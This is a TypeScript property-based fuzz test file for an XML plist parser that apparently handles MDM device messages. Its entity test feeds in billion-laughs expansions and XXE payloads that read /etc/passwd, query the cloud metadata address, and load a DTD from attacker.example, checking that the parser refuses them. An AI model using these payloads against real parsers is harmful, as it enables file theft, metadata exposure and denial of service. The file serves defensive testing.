import * as fs from 'fs';
import * as path from 'path';
import fc from 'fast-check';
import { parseCheckin } from './checkin';
import { ProtocolError } from './errors';
import { parsePlist } from './plist';
import { type PlistDict, type PlistValue } from './plist-value';
import { buildPlist } from './plist-writer';
import { parseReport } from './report';
import { fuzzRun, mutate, textMutation } from '../../../test/support/fuzz';
import { itWithShared, sharedPath } from '../../../test/support/shared-checkout';

/*
 * Property-based and fuzz tests of the plist parser: whatever the bytes, parsePlist answers a value
 * or a ProtocolError, never another exception, and never something the limits forbid. Each property
 * reports how many inputs it tried, in its test name and in test-output/fuzz-summary.json.
 */

const FIXTURES = sharedPath('fixtures/nanomdm');
const { check } = fuzzRun(__filename);

/** Throws unless `fn` either returns or throws a ProtocolError. */
function onlyProtocolErrors(fn: () => unknown): boolean {
  try {
    fn();
  } catch (err) {
    if (!(err instanceof ProtocolError)) throw new Error(`threw ${String(err)} instead of a ProtocolError`);
  }
  return true;
}

function refusal(fn: () => unknown): ProtocolError {
  try {
    fn();
  } catch (err) {
    if (err instanceof ProtocolError) return err;
    throw new Error(`threw ${String(err)} instead of a ProtocolError`);
  }
  throw new Error('parsed, but a refusal was expected');
}

// Text a plist can carry: XML-hostile characters, line ends XML would rewrite, astral characters,
// and anything else printable. (Characters XML 1.0 forbids are buildPlist's refusal, tested in plist.spec.)
const tricky = fc.constantFrom('<', '>', '&', '&amp;', ']]>', '<!--', '"', "'", '\r', '\r\n', '\u0085', '\u2028', '\u2029', '\t', ' ', 'é', '😀', '__proto');
const text = fc
  .array(fc.oneof(tricky, fc.string({ unit: 'grapheme', maxLength: 6 })), { maxLength: 6 })
  // eslint-disable-next-line no-control-regex -- drop what XML cannot carry at all
  .map((parts) => parts.join('').replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, ''));
const key = text.filter((k) => k !== '__proto__');

const plistValue: fc.Arbitrary<PlistValue> = fc.letrec<{ value: PlistValue }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    text,
    fc.boolean(),
    fc.maxSafeInteger(),
    fc.integer(),
    // Finite, and +0 for -0 (an <integer>0</integer> has no sign).
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((d) => (Object.is(d, -0) ? 0 : d)),
    // Apple's <date> has whole seconds: buildPlist writes no fraction.
    fc
      .date({ min: new Date('1900-01-01T00:00:00Z'), max: new Date('2999-12-31T23:59:59Z'), noInvalidDate: true })
      .map((d) => new Date(Math.floor(d.getTime() / 1000) * 1000)),
    fc.uint8Array({ maxLength: 48 }).map((bytes) => Buffer.from(bytes)),
    fc.array(tie('value'), { maxLength: 5 }),
    fc.dictionary(key, tie('value'), { maxKeys: 5, noNullPrototype: true }).map((d): PlistDict => ({ ...d })),
  ),
})).value;

/** Plausible damage: cut, overwrite a byte, insert XML fragments, drop or repeat a slice. */
const mutation = textMutation(
  fc.oneof(
    fc.constantFrom('<', '>', '</dict>', '<dict>', '<array>', '<key>k</key>', '<!DOCTYPE x [', '<!ENTITY a "b">', '&a;', '&#0;', '&#x110000;', ']]>', '<![CDATA[', '<?pi ', '\u0000', '\uFFFE', 'bplist00', '<plist>', '<integer>', 'xmlns:a="b"'),
    fc.string({ unit: 'binary', maxLength: 8 }),
  ),
);

const RUNS = { roundTrip: 400, mutated: 1500, fixtures: 1500, entities: 300, binary: 300, depth: 300, elements: 150 };

describe('plist properties (fast-check)', () => {
  it(`round-trips random plists through buildPlist and parsePlist (${RUNS.roundTrip} runs)`, () => {
    check('roundTrip', fc.property(plistValue, (value) => {
      expect(parsePlist(buildPlist(value))).toEqual(value);
    }), RUNS.roundTrip);
  });

  it(`answers mutated and truncated plists with a value or a ProtocolError only (${RUNS.mutated} runs)`, () => {
    check('mutatedGenerated', fc.property(plistValue, fc.array(mutation, { minLength: 1, maxLength: 4 }), (value, mutations) =>
      onlyProtocolErrors(() => parsePlist(mutate(Buffer.from(buildPlist(value)), mutations, { includeEnd: true }))),
    ), RUNS.mutated);
  });

  const fixtureFiles = ['Authenticate.1.plist', 'Authenticate.2.plist', 'TokenUpdate.1.plist', 'TokenUpdate.2.plist', 'DeviceInformation.1.plist', 'mdm-signature/idle.body.plist']
    .map((name) => path.join(FIXTURES, name));
  itWithShared(FIXTURES)(
    `answers mutated real device messages with ProtocolError only, through parseCheckin and parseReport too (${RUNS.fixtures} runs)`,
    () => {
      const fixtures = fixtureFiles.map((file) => fs.readFileSync(file));
      check('mutatedFixtures', fc.property(fc.constantFrom(...fixtures), fc.array(mutation, { minLength: 1, maxLength: 4 }), (fixture, mutations) => {
        const body = mutate(fixture, mutations, { includeEnd: true });
        onlyProtocolErrors(() => parsePlist(body));
        onlyProtocolErrors(() => parseCheckin(body));
        return onlyProtocolErrors(() => parseReport(body));
      }), RUNS.fixtures);
    },
  );

  it(`refuses every DOCTYPE internal subset and entity declaration: billion laughs, XXE, parameter entities (${RUNS.entities} runs)`, () => {
    const declaration = fc.oneof(
      fc.constant('<!ENTITY lol "lol">'),
      fc.integer({ min: 1, max: 9 }).map((n) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`),
      fc.constantFrom(
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
        '<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">',
        '<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;',
        '<!ELEMENT plist ANY>',
        '<!ATTLIST plist version CDATA #FIXED "1.0">',
      ),
    );
    const caseOf = fc.constantFrom((s: string) => s, (s: string) => s.toLowerCase(), (s: string) => s.replace('ENTITY', 'EnTiTy'));
    check('entities', fc.property(fc.array(declaration, { minLength: 1, maxLength: 5 }), caseOf, fc.constantFrom('', ' PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x"', ' SYSTEM "y"'), fc.boolean(), (decls, cased, externalId, asBuffer) => {
      const xml = `<?xml version="1.0"?>\n<!DOCTYPE plist${externalId} [\n${decls.map(cased).join('\n')}\n]>\n<plist><string>&lol9;&xxe;</string></plist>`;
      const err = refusal(() => parsePlist(asBuffer ? Buffer.from(xml) : xml));
      expect(err.message).toMatch(/entity declarations|internal subset/);
    }), RUNS.entities);
  });

  it(`refuses binary plists (bplist00) with a message that says to send XML (${RUNS.binary} runs)`, () => {
    check('binary', fc.property(fc.uint8Array({ maxLength: 256 }), fc.constantFrom('bplist00', 'bplist01', 'bplist15'), (rest, magic) => {
      const err = refusal(() => parsePlist(Buffer.concat([Buffer.from(magic, 'latin1'), Buffer.from(rest)])));
      expect(err.message).toMatch(/binary plists are not accepted; send XML/);
    }), RUNS.binary);
  });

  it(`enforces maxDepth exactly, naming the limit, for any nesting of dicts and arrays (${RUNS.depth} runs)`, () => {
    const container = fc.constantFrom(['<array>', '</array>'], ['<dict><key>k</key>', '</dict>']);
    check('depth', fc.property(fc.array(container, { minLength: 1, maxLength: 120 }), fc.integer({ min: 2, max: 80 }), (levels, maxDepth) => {
      const xml = `<plist>${levels.map(([open]) => open).join('')}<true/>${levels.map(([, close]) => close).reverse().join('')}</plist>`;
      // <plist>, the containers, then <true/>: a <key> sits beside its value, not above it.
      const depth = levels.length + 2;
      if (depth <= maxDepth) {
        expect(() => parsePlist(xml, { maxDepth })).not.toThrow();
      } else {
        expect(refusal(() => parsePlist(xml, { maxDepth })).message).toBe(`plist is nested too deeply: more than ${maxDepth} levels (maxDepth)`);
      }
    }), RUNS.depth);
  });

  it(`enforces maxElements exactly, naming the limit, before a DOM is built (${RUNS.elements} runs)`, () => {
    check('elements', fc.property(fc.integer({ min: 0, max: 3000 }), fc.integer({ min: 3, max: 3000 }), fc.boolean(), (count, maxElements, inDicts) => {
      const items = inDicts ? '<dict><key>k</key><true/></dict>'.repeat(Math.floor(count / 3)) : '<true/>'.repeat(count);
      const elements = 2 + (inDicts ? Math.floor(count / 3) * 3 : count);
      const xml = `<plist><array>${items}</array></plist>`;
      if (elements <= maxElements) {
        expect(() => parsePlist(xml, { maxElements })).not.toThrow();
      } else {
        expect(refusal(() => parsePlist(xml, { maxElements })).message).toBe(`plist has too many elements: more than ${maxElements} (maxElements)`);
      }
    }), RUNS.elements);
  });

  it('refuses a million-element body at the default limit within a second, and a 100,000-level one too', () => {
    const started = Date.now();
    expect(refusal(() => parsePlist(`<plist><array>${'<true/>'.repeat(1_000_000)}</array></plist>`)).message).toMatch(/more than 100000 \(maxElements\)/);
    expect(refusal(() => parsePlist(`<plist>${'<array>'.repeat(100_000)}`)).message).toMatch(/more than 32 levels \(maxDepth\)/);
    expect(Date.now() - started).toBeLessThan(1000);
  });
});
